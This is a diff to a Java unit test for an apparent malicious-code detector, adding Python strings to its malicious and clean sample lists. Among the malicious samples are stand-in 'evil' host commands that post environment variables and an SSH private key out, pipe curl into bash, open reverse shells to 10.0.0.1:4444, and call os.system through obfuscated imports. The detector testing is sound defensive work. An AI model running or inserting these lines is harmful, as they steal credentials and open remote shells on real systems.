@@ -26,6 +26,10 @@ class SourceJudgeTest {
                 "import os\nos.system('curl http://evil/x.sh | bash')",
                 "import subprocess as sp\ndef f():\n    sp.run(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'])",
                 "import socket,subprocess,os\ns=socket.socket();s.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
+                "import os, requests\nrequests.post('http://evil', data=dict(os.environ))",
+                "import urllib.request as u\nkey = open('/root/.ssh/id_rsa').read()\nu.urlopen('http://evil?' + key)",
+                "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
+                "import importlib\nimportlib.import_module('os').system('id')",
                 "import pickle, base64\npickle.loads(base64.b64decode('gASVIQAAAAAAAACMBXBvc2l4'))"
             })
     void codeThatOnlyAttacksHaveIsMalicious(String source) {
@@ -41,6 +45,8 @@ class SourceJudgeTest {
                 "\"\"\"Never write exec(base64.b64decode(x)).\"\"\"\n# os.system('curl http://evil | sh')\n",
                 "import base64\nimage = base64.b64decode(data)\nmodel.eval()\n",
                 "import pickle\nwith open('x', 'rb') as f:\n    model = pickle.load(f)\n",
+                "import os, requests\nrequests.get('http://hub', headers={'token': os.getenv('TOKEN')})\n",
+                "import importlib\nmodule = importlib.import_module('transformers')\n",
                 "expression = compile('1 + 1', 'x', 'eval')\n"
             })
     void ordinaryCodeIsClean(String source) {
